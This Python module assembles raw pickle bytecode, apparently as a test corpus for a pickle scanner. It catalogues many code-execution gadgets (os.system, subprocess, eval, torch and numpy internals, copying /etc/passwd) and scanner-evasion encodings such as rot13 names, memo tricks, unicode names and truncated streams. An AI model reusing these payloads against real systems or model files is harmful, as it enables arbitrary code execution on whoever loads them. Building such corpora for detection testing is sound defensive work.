"""A small assembler of pickles, and the gadgets that would run code. Nothing here is ever loaded."""

import struct


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short(value):
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def named(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def value(item):
    """An argument: bytes are opcodes already."""
    if isinstance(item, bytes):
        return item
    if isinstance(item, str):
        return text(item)
    if item is None:
        return b"N"
    if isinstance(item, int):
        return b"J" + struct.pack("<i", item)
    if isinstance(item, tuple):
        return b"(" + b"".join(map(value, item)) + b"t"
    if isinstance(item, dict):
        return b"}(" + b"".join(value(k) + value(v) for k, v in item.items()) + b"u"
    return b"](" + b"".join(map(value, item)) + b"e"


def call(function, *arguments):
    """`function` is `module:name`, or the opcodes that leave a callable on the stack."""
    found = named(*function.split(":")) if isinstance(function, str) else function
    return found + value(tuple(arguments)) + b"R"


def whole(expression, protocol=2):
    return (b"\x80" + bytes([protocol]) if protocol >= 2 else b"") + expression + b"."


def _module(name):
    return call("importlib:import_module", name)


GADGETS = {
    "os-system": lambda s: call("os:system", s.shell),
    "posix-system": lambda s: call("posix:system", s.shell),
    "nt-system": lambda s: call("nt:system", s.shell),
    "os-popen": lambda s: call("os:popen", s.shell),
    "os-execl": lambda s: call("os:execl", "/bin/sh", "sh", "-c", s.shell),
    "os-spawnl": lambda s: call("os:spawnl", 0, "/bin/sh", "sh", "-c", s.shell),
    "posix-spawn": lambda s: call("posix:posix_spawn", "/bin/sh", ["sh", "-c", s.shell], {}),
    "builtins-exec": lambda s: call("builtins:exec", s.python),
    "builtins-eval": lambda s: call("builtins:eval", s.python),
    "python2-eval": lambda s: call("__builtin__:eval", s.python),
    "builtins-compile": lambda s: call(
        "builtins:exec", call("builtins:compile", s.python, "x", "exec")
    ),
    "builtins-import": lambda s: call(
        call("builtins:getattr", call("builtins:__import__", "os"), "system"), s.shell
    ),
    "builtins-open": lambda s: call("builtins:open", s.markers[0], "w"),
    "builtins-map": lambda s: call(
        "builtins:list", call("builtins:map", named("os", "system"), [s.shell])
    ),
    "builtins-breakpoint": lambda s: call("builtins:breakpoint"),
    "builtins-help": lambda s: call("builtins:help", "os"),
    "subprocess-popen": lambda s: call("subprocess:Popen", ["sh", "-c", s.shell]),
    "subprocess-run": lambda s: call("subprocess:run", ["sh", "-c", s.shell]),
    "subprocess-output": lambda s: call("subprocess:check_output", ["sh", "-c", s.shell]),
    "subprocess-getoutput": lambda s: call("subprocess:getoutput", s.shell),
    "asyncio-subprocess": lambda s: call("asyncio:create_subprocess_shell", s.shell),
    "multiprocessing": lambda s: call("multiprocessing.util:spawnv_passfds", b"C\x07/bin/sh", [], []),
    "runpy": lambda s: call("runpy:_run_code", call("builtins:compile", s.python, "x", "exec"), {}),
    "runpy-path": lambda s: call("runpy:run_path", "/job/in/code.py"),
    "importlib": lambda s: call(call("builtins:getattr", _module("os"), "system"), s.shell),
    "importlib-loader": lambda s: call(
        "importlib.machinery:SourceFileLoader", "x", "/job/in/code.py"
    ),
    "attrgetter": lambda s: call(call(call("operator:attrgetter", "system"), _module("os")), s.shell),
    "methodcaller": lambda s: call(call("operator:methodcaller", "system", s.shell), _module("os")),
    "itemgetter": lambda s: call(
        call(call("operator:itemgetter", "eval"), named("builtins", "__dict__")), s.python
    ),
    "partial": lambda s: call(call("functools:partial", named("os", "system"), s.shell)),
    "partial-setstate": lambda s: call("functools:partial", named("builtins", "print"))
    + value((named("os", "system"), (s.shell,), {}, None)) + b"b",
    "reduce": lambda s: call("functools:reduce", named("builtins", "getattr"), [_module("os")]),
    "getattr-chain": lambda s: call(
        "builtins:getattr", call("builtins:getattr", named("builtins", "object"), "__class__"),
        "__subclasses__",
    ),
    "globals-of-a-function": lambda s: call(
        "builtins:getattr", named("torch._utils", "_rebuild_tensor_v2"), "__globals__"
    ),
    "pty": lambda s: call("pty:spawn", ["sh", "-c", s.shell]),
    "code-interact": lambda s: call("code:interact"),
    "code-interpreter": lambda s: call("code:InteractiveInterpreter"),
    "timeit": lambda s: call("timeit:timeit", s.python),
    "timeit-main": lambda s: call("timeit:main", [s.python]),
    "pdb": lambda s: call("pdb:run", s.python),
    "bdb": lambda s: call("bdb:Bdb"),
    "cprofile": lambda s: call("cProfile:run", s.python),
    "profile": lambda s: call("profile:run", s.python),
    "trace": lambda s: call("trace:Trace"),
    "doctest": lambda s: call("doctest:debug_script", s.python),
    "ctypes": lambda s: call("ctypes:CDLL", "libc.so.6"),
    "socket": lambda s: call("socket:create_connection", ("127.0.0.1", 9)),
    "urllib": lambda s: call("urllib.request:urlopen", "http://127.0.0.1:9/"),
    "webbrowser": lambda s: call("webbrowser:open", "http://127.0.0.1:9/"),
    "shutil": lambda s: call("shutil:copyfile", "/etc/passwd", s.markers[0]),
    "pathlib": lambda s: call("pathlib:Path.touch", call("pathlib:PosixPath", s.markers[0])),
    "logging-config": lambda s: call("logging.config:_resolve", "os.system"),
    "pydoc": lambda s: call("pydoc:pipepager", "x", s.shell),
    "pip": lambda s: call("pip:main", ["install", "x"]),
    "venv": lambda s: call("venv:create", s.markers[0]),
    "ensurepip": lambda s: call("ensurepip:bootstrap"),
    "lib2to3": lambda s: call("lib2to3.pgen2.grammar:Grammar.loads", b"C\x01."),
    "idlelib": lambda s: call("idlelib.pyshell:ModifiedInterpreter.runcode", s.python),
    "nested-pickle": lambda s: call("pickle:loads", _inner(s)),
    "nested-pickle-c": lambda s: call("_pickle:loads", _inner(s)),
    "dill": lambda s: call("dill._dill:_create_function", call("dill:loads", _inner(s))),
    "dill-eval": lambda s: call("dill._dill:_eval_repr", s.python),
    "cloudpickle": lambda s: call(
        "cloudpickle.cloudpickle:_make_function", call("types:CodeType", 0, 0, 0, 0)
    ),
    "joblib": lambda s: call("joblib:load", "/job/in/other.joblib"),
    "marshal": lambda s: call(
        "types:FunctionType", call("marshal:loads", b"C\x01N"), call("builtins:globals")
    ),
    "torch-hub": lambda s: call("torch.hub:load", "someone/something", "model"),
    "torch-hub-local": lambda s: call("torch.hub:_load_local", "/job/in", "model"),
    "torch-extension": lambda s: call("torch.utils.cpp_extension:load", "x", ["/job/in/x.cpp"]),
    "torch-inline": lambda s: call("torch.utils.cpp_extension:load_inline", "x", "int main(){}"),
    "torch-dynamo": lambda s: call("torch._dynamo.guards:GuardBuilder.get", s.python),
    "torch-inductor": lambda s: call("torch._inductor.codecache:compile_file", "x", "y", s.shell),
    "torch-jit": lambda s: call("torch.jit.unsupported_tensor_ops:execWrapper", s.python, {}, {}),
    "torch-jit-load": lambda s: call("torch.jit:load", "/job/in/x.pt"),
    "torch-storage": lambda s: call("torch.storage:_load_from_bytes", _inner(s)),
    "torch-serialization": lambda s: call("torch.serialization:load", "/job/in/x.pt"),
    "torch-load": lambda s: call("torch:load", "/job/in/x.pt"),
    "torch-os": lambda s: call("torch:os.system", s.shell),
    "torch-utils-dotted": lambda s: call("torch._utils:sys.modules", s.shell),
    "torch-library": lambda s: call("torch.ops:load_library", "/job/in/x.so"),
    "torch-testing": lambda s: call("torch.testing._internal.common_utils:run_tests"),
    "torch-collect-env": lambda s: call("torch.utils.collect_env:run", s.shell),
    "torch-bottleneck": lambda s: call("torch.utils.bottleneck.__main__:run_cprofile", s.python, {}),
    "torch-unpickler": lambda s: call("torch.package:PackageImporter", "/job/in/x.pt"),
    "torch-fx": lambda s: call("torch.fx.graph_module:_exec_with_source", s.python, {}),
    "numpy-runstring": lambda s: call("numpy.testing._private.utils:runstring", s.python, {}),
    "numpy-testing": lambda s: call("numpy.testing:rundocs", "/job/in/code.py"),
    "numpy-load": lambda s: call("numpy:load", "/job/in/x.npy", None, call("builtins:bool", 1)),
    "numpy-f2py": lambda s: call("numpy.f2py.crackfortran:myeval", s.python),
    "numpy-capi": lambda s: call("numpy.f2py.capi_maps:getinit", {"init": s.python}, {}),
    "sklearn-function": lambda s: call("sklearn.utils._testing:check_docstring_parameters", "x"),
    "sklearn-transformer": lambda s: call(
        "sklearn.preprocessing._function_transformer:FunctionTransformer", named("os", "system")
    ),
    "sklearn-model": lambda s: call("sklearn.linear_model._base:LinearRegression"),
    "sklearn-eval": lambda s: call("sklearn.gaussian_process.kernels:CompoundKernel", s.python),
    "pandas-eval": lambda s: call("pandas.core.computation.eval:eval", s.python),
    "pandas-pickle": lambda s: call("pandas:read_pickle", "/job/in/x.pkl"),
    "collections": lambda s: call("collections:namedtuple", "X", "a", named("os", "system")),
    "collections-dotted": lambda s: call("collections:_sys.modules", s.shell),
    "counter": lambda s: call("collections:Counter.update", named("os", "environ")),
    "itertools": lambda s: call(
        "builtins:list", call("itertools:starmap", named("os", "system"), [(s.shell,)])
    ),
    "copyreg": lambda s: call("copyreg:_reconstructor", named("subprocess", "Popen")),
    "copyreg-extension": lambda s: call("copyreg:add_extension", "os", "system", 7) + b"\x82\x07",
    "extension-code": lambda s: b"\x82\x07" + value((s.shell,)) + b"R",
    "extension-code-4": lambda s: b"\x84\x07\x00\x00\x00" + value((s.shell,)) + b"R",
    "codecs": lambda s: call("_codecs:lookup", s.shell),
    "sys-modules": lambda s: call("builtins:getattr", named("sys", "modules"), "get"),
    "types": lambda s: call("types:FunctionType", named("os", "system")),
    "weakref": lambda s: call("weakref:finalize", named("os", "system"), s.shell),
    "atexit": lambda s: call("atexit:register", named("os", "system"), s.shell),
    "signal": lambda s: call("signal:signal", 14, named("os", "system")),
    "threading": lambda s: call("threading:Timer", 0, named("os", "system"), [s.shell]),
    "ultralytics-dotted": lambda s: call("ultralytics.utils.checks:os.system", s.shell),
    "ultralytics-download": lambda s: call("ultralytics.utils.downloads:safe_download", "http://x"),
    "ultralytics-subprocess": lambda s: call(
        "ultralytics.utils.checks:subprocess.run", ["sh", "-c", s.shell]
    ),
    "ultralytics-requirements": lambda s: call("ultralytics.utils.checks:check_requirements", "x"),
    "transformers": lambda s: call("transformers.dynamic_module_utils:get_class_from_dynamic_module"),
    "mlflow": lambda s: call("mlflow.pyfunc:load_model", "/job/in"),
    "ray": lambda s: call("ray.cloudpickle:loads", _inner(s)),
    "unknown-module": lambda s: call("strangers.own:thing", s.shell),
}  # fmt: skip
"""What a pickle could call: name, and the opcodes of the call."""


def _inner(shot):
    data = whole(call("os:system", shot.shell))
    return b"B" + struct.pack("<I", len(data)) + data


def _memo(shot):
    parts = (
        short("system") + b"\x94",
        short("os") + b"\x94",
        b"0",
        b"0",
        b"h\x01",
        b"h\x00",
        b"\x93",
    )
    return b"".join(parts) + value((shot.shell,)) + b"R"


def _decoys(shot):
    names = short("os") + short("system") + short("collections") + short("OrderedDict") + b"00"
    return names + b"\x93" + value((shot.shell,)) + b"R"


def _swapped(shot):
    memo = short("collections") + b"q\x00" + b"0" + short("os") + b"q\x00" + b"0"
    return memo + b"h\x00" + short("system") + b"\x93" + value((shot.shell,)) + b"R"


def _joined(shot):
    name = call("builtins:getattr", text(""), "join") + value(((["sys", "tem"]),)) + b"R"
    return short("os") + name + b"\x93" + value((shot.shell,)) + b"R"


def _reversed(shot):
    name = call("_codecs:encode", "flfgrz", "rot13")
    return short("os") + name + b"\x93" + value((shot.shell,)) + b"R"


FORMS = {
    "protocol-0": lambda s: b"cos\nsystem\n(S'" + s.shell.encode() + b"'\ntR.",
    "protocol-1": lambda s: b"cos\nsystem\n(" + text(s.shell) + b"tR.",
    "protocol-2": lambda s: whole(call("os:system", s.shell), 2),
    "protocol-3": lambda s: whole(call("os:system", s.shell), 3),
    "protocol-4": lambda s: whole(
        short("os") + short("system") + b"\x93" + value((s.shell,)) + b"R", 4
    ),
    "protocol-5": lambda s: whole(
        short("os") + short("system") + b"\x93" + value((s.shell,)) + b"R", 5
    ),
    "framed": lambda s: b"\x80\x04\x95" + struct.pack("<Q", 10_000) + call("os:system", s.shell) + b".",
    "inst": lambda s: b"(" + text(s.shell) + b"ios\nsystem\n.",
    "obj": lambda s: b"(" + named("os", "system") + text(s.shell) + b"o.",
    "newobj": lambda s: whole(named("subprocess", "Popen") + value((["sh"],)) + b"\x81"),
    "newobj-ex": lambda s: whole(
        named("subprocess", "Popen") + value(()) + value({"args": s.shell, "shell": 1}) + b"\x92", 4
    ),
    "build-setstate": lambda s: whole(
        named("torch", "Size") + b")\x81" + value({"__setstate__": named("os", "system")}) + b"b"
        + value(s.shell) + b"b"
    ),
    "stack-global-memo": lambda s: whole(_memo(s), 4),
    "stack-global-decoys": lambda s: whole(_decoys(s), 4),
    "stack-global-memo-swapped": lambda s: whole(_swapped(s), 4),
    "stack-global-joined-name": lambda s: whole(_joined(s), 4),
    "stack-global-rot13": lambda s: whole(_reversed(s), 4),
    "stack-global-dup": lambda s: whole(short("os") + b"20" + short("system") + b"\x93)R", 4),
    "second-pickle": lambda s: whole(b"}") + whole(call("os:system", s.shell)),
    "truncated-after-payload": lambda s: b"\x80\x02" + call("os:system", s.shell),
    "broken-opcode-after-payload": lambda s: whole(call("os:system", s.shell) + b"\xff\xff"),
    "stack-error-after-payload": lambda s: whole(call("os:system", s.shell) + b"0000"),
    "payload-then-state-dict": lambda s: whole(call("os:system", s.shell) + b"0}"),
    "wrong-protocol": lambda s: b"\x80\x63" + call("os:system", s.shell) + b".",
    "persistent-id": lambda s: whole(value(("storage", named("os", "system"), "0", "cpu", 1)) + b"Q"),
    "spaces-in-a-name": lambda s: whole(b"cos  \n system\n" + value((s.shell,)) + b"R"),
    "newlines-in-a-name": lambda s: whole(b"cos\r\nsystem\r\n" + value((s.shell,)) + b"R"),
    "unicode-name": lambda s: whole(
        short("ｏｓ") + short("system") + b"\x93" + value((s.shell,)) + b"R", 4
    ),
    "dotted-name": lambda s: whole(
        short("torch._utils") + short("sys.modules") + b"\x93" + value((s.shell,)) + b"R", 4
    ),
    "relative-of-allowed": lambda s: whole(
        short("collections") + short("OrderedDict.__init__.__globals__") + b"\x93)R", 4
    ),
    "empty-class-name": lambda s: whole(short("builtins") + short("") + b"\x93)R", 4),
    "junk": lambda s: b"\x00\x01\x02not a pickle",
    "empty": lambda s: b"",
    "many-opcodes": lambda s: whole(b"N0" * 4_000_000 + call("os:system", s.shell)),
    "deep": lambda s: whole(b"(" * 200_000 + b"t" * 200_000),
}  # fmt: skip
"""The same payload in every dress that a pickle can wear."""
